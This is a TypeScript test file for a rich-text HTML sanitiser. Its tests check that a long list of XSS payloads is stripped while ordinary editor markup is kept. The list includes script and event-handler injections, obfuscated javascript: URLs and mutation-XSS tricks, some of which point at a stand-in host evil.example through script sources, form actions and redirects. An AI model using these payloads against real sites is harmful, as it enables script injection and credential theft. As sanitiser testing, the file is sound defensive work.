import { describe, expect, test } from "vitest";
import { AppError } from "#domain/errors.ts";
import { cleanHtml, plainText } from "./rich-text.ts";

const harmless = new Set(
  (
    "p br h2 h3 h4 blockquote pre code hr ul ol li strong b em i u s sub sup a img span figure figcaption " +
    "table thead tbody tr th td iframe"
  ).split(" "),
);

/** Every element and attribute that a browser would see in cleaned text. */
function elementsOf(html: string) {
  return [...html.matchAll(/<\/?([a-z0-9]+)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/gi)].map((tag) => ({
    name: (tag[1] ?? "").toLowerCase(),
    attributes: [...(tag[2] ?? "").matchAll(/([^\s=>/]+)(?:="([^"]*)")?/g)].map(
      ([, name = "", value = ""]) => [name.toLowerCase(), value] as const,
    ),
  }));
}

const attacks = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<script/src="data:text/javascript,alert(1)"></script>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:alert(1)"><text y="1em">x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" OnErRoR="alert(1)">`,
  `<img/src=x/onerror=alert(1)>`,
  `<img src="javascript:alert(1)">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="https://example.org/a.jpg" srcset="https://evil.example/x 1x">`,
  `<img src="https://example.org/a.jpg" style="position:fixed;inset:0">`,
  `<img """><script>alert(1)</script>">`,
  `<img src=x:x onerror="&#97;lert(1)">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="java&#10;script:alert(1)">x</a>`,
  `<a href="&#x6A;avascript:alert(1)">x</a>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<a href="&#1;javascript:alert(1)">x</a>`,
  `<a href="\u0000javascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="blob:https://example.org/x">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="https://example.org" onclick="alert(1)" target="_blank">x</a>`,
  `<a href="https://example.org" style="background:url(javascript:alert(1))">x</a>`,
  `<p style="background-image:url(https://evil.example/track)">x</p>`,
  `<style>@import "https://evil.example/x.css"; body { display: none }</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe src="https://player.vimeo.com/video/123456" srcdoc="<script>alert(1)</script>" onload=alert(1)></iframe>`,
  `<iframe src="javascript:alert(1)//player.vimeo.com"></iframe>`,
  `<iframe src="https://player.vimeo.com.evil.example/video/1"></iframe>`,
  `<p class="ql-align-center evil">x</p>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">`,
  `<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<template><script>alert(1)</script></template>`,
  `<template shadowrootmode="open"><img src=x onerror=alert(1)></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!-- --!><img src=x onerror=alert(1)> -->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?xml version="1.0"?><script>alert(1)</script>`,
  `<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`,
  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  `<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>`,
  `<body onload=alert(1)><p>x</p></body>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<p id="root" name="config" class="secret" data-x="1">x</p>`,
  `<span class="ql-size-small evil" onmouseover="alert(1)">x</span>`,
  `<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>`,
  `<a href="https://example.org" rel="opener" download ping="https://evil.example">x</a>`,
  `<p><b><i><script>alert(1)</p></b>`,
  `<img src="https://example.org/a.jpg" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">`,
  `<a title="<img src=x onerror=alert(1)>" href="https://example.org">x</a>`,
  `<custom-element onfocus=alert(1) tabindex=1 autofocus>x</custom-element>`,
  `<p is="evil" slot="x" contenteditable>x</p>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `<p>${"<b>".repeat(50)}x`,
];

describe("whatever is sent, only harmless elements and attributes are kept", () => {
  test.each(attacks)("%j", (attack) => {
    const cleaned = cleanHtml(`<p>before</p>${attack}<p>after</p>`);
    for (const { name, attributes } of elementsOf(cleaned)) {
      expect(harmless, cleaned).toContain(name);
      for (const [attribute, value] of attributes) {
        expect(attribute, cleaned).not.toMatch(
          /^(on|style|srcset|srcdoc|action|formaction|id|name|target|data|background)/,
        );
        if (attribute === "href") expect(value, cleaned).toMatch(/^(https?:\/\/|mailto:|\/(?!\/)|[^:]*$)/i);
        if (attribute === "src") expect(value, cleaned).toMatch(/^(https?:\/\/|[^:]*$)/i);
        if (attribute === "class")
          expect(value, cleaned).toMatch(/^ql-(size-(extra-small|small|medium|large)|align-center)$/);
      }
    }
    expect(cleaned.replace(/<[^<>]*>/g, ""), "what is left as text").not.toMatch(/[<>]/);
    expect(cleaned).not.toMatch(/<!--|<!\[|<\?/);
  });

  test.each(attacks)("cleaning twice changes nothing: %j", (attack) => {
    const once = cleanHtml(attack);
    expect(cleanHtml(once)).toBe(once);
  });

  test("the text around an attack stays", () => {
    for (const attack of attacks.filter((text) =>
      /<\/(script|svg|style|iframe|form|template)>$/.test(text),
    )) {
      const words = plainText(cleanHtml(`<p>before</p>${attack}<p>after</p>`));
      expect(words, attack).toMatch(/^before\b.*after$/);
    }
  });
});

describe("text that nests deeper than any editor makes it", () => {
  test.each(["<b>", "<ul><li>", "<div>", "<svg>", "<p><span>"])("is refused at once: %s", (tags) => {
    const fields = { content: "At most 200 elements inside one another." };
    const refusal = new AppError("invalid", "Please look again at: content.", { fields });
    expect(() => cleanHtml(tags.repeat(300_000))).toThrow(refusal);
  });

  test("is not confused with text that is merely long", () => {
    expect(cleanHtml("<p>a<br>b</p>".repeat(1000))).toHaveLength("<p>a<br />b</p>".length * 1000);
    expect(cleanHtml("<b>".repeat(200))).toContain("<b>");
  });
});

describe("what an editor makes is kept as it is", () => {
  test.each([
    "<h2>Methods</h2><h3>Site</h3><h4>Birds</h4>",
    "<p>One<br />two</p><hr />",
    "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>",
    '<ol start="3" type="a"><li>c</li></ol>',
    "<p><strong>a</strong><em>b</em><u>c</u><s>d</s><sub>e</sub><sup>f</sup><code>g</code></p>",
    "<blockquote><p>Said</p></blockquote><pre>x &lt; y</pre>",
    '<table><thead><tr><th scope="col" colspan="2">a</th></tr></thead><tbody><tr><td rowspan="2">b</td></tr></tbody></table>',
    '<p><span class="ql-size-extra-small">a</span><span class="ql-size-large">b</span></p>',
    '<p><span class="ql-font-comic-sans"><span class="ql-size-large">a</span></span></p>',
    '<h2 class="ql-align-center">a</h2><p class="ql-align-justify">b</p><table><tbody><tr><td class="ql-align-right">c</td></tr></tbody></table>',
    '<iframe src="https://player.vimeo.com/video/123456" title="A nest" loading="lazy" allowfullscreen referrerpolicy="strict-origin-when-cross-origin" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"></iframe>',
    '<p lang="yo">Ọlọ́fin</p>',
    "<p>Temperatures of 35 °C &amp; more; n &lt; 5</p>",
  ])("%s", (html) => {
    expect(cleanHtml(html)).toBe(html);
  });

  test("a link gets rel=noopener, whatever it said", () => {
    expect(cleanHtml('<a href="https://example.org" title="t" rel="opener" target="_blank">x</a>')).toBe(
      '<a href="https://example.org" title="t" rel="noopener">x</a>',
    );
    expect(cleanHtml('<a href="/news/rains">x</a>')).toBe('<a href="/news/rains" rel="noopener">x</a>');
    expect(cleanHtml('<a href="mailto:a@example.org">x</a>')).toContain('href="mailto:a@example.org"');
  });

  test("a picture waits until it is scrolled to", () => {
    const picture = '<img src="https://example.org/a.jpg" alt="A finch" width="640" height="480" />';
    expect(cleanHtml(picture)).toBe(picture.replace(" />", ' loading="lazy" />'));
  });

  test("a frame shows hosts of the configuration only, under an address that is ours to choose", () => {
    const film = cleanHtml('<iframe src="https://youtu.be/dQw4w9WgXcQ" width="9999" name="x"></iframe>');
    expect(film).toMatch(
      /^<iframe src="https:\/\/www\.youtube-nocookie\.com\/embed\/dQw4w9WgXcQ" title="Film"/,
    );
    expect(film).not.toMatch(/9999|name=/);
    expect(cleanHtml('<p>a</p><iframe src="https://evil.example"></iframe>')).toBe("<p>a</p>");
  });

  test("a page keeps its one first heading", () => {
    expect(cleanHtml("<h1>Rains</h1>")).toBe("<h2>Rains</h2>");
  });
});

describe("the words of rich text", () => {
  test.each([
    ["<p>One</p><p>two</p>", "One two"],
    ["<ul><li>a</li><li>b</li></ul>", "a b"],
    ["<p>a<br />b</p><hr /><h2>c</h2>d", "a b c d"],
    ["<table><tr><th>a</th><td>b</td></tr></table>", "a b"],
    ["<p>fire<em>finch</em></p>", "firefinch"],
    ["<p>n &lt; 5 &amp; &quot;more&quot;&nbsp;so</p>", 'n < 5 & "more" so'],
    ["<p>&amp;lt;b&amp;gt;</p>", "&lt;b&gt;"],
    ["  \n <p>  </p> ", ""],
    ["", ""],
    ['<img alt="a > b" src="/a.jpg" />after', "after"],
  ])("of %s are %s", (html, words) => {
    expect(plainText(cleanHtml(html))).toBe(words);
  });
});
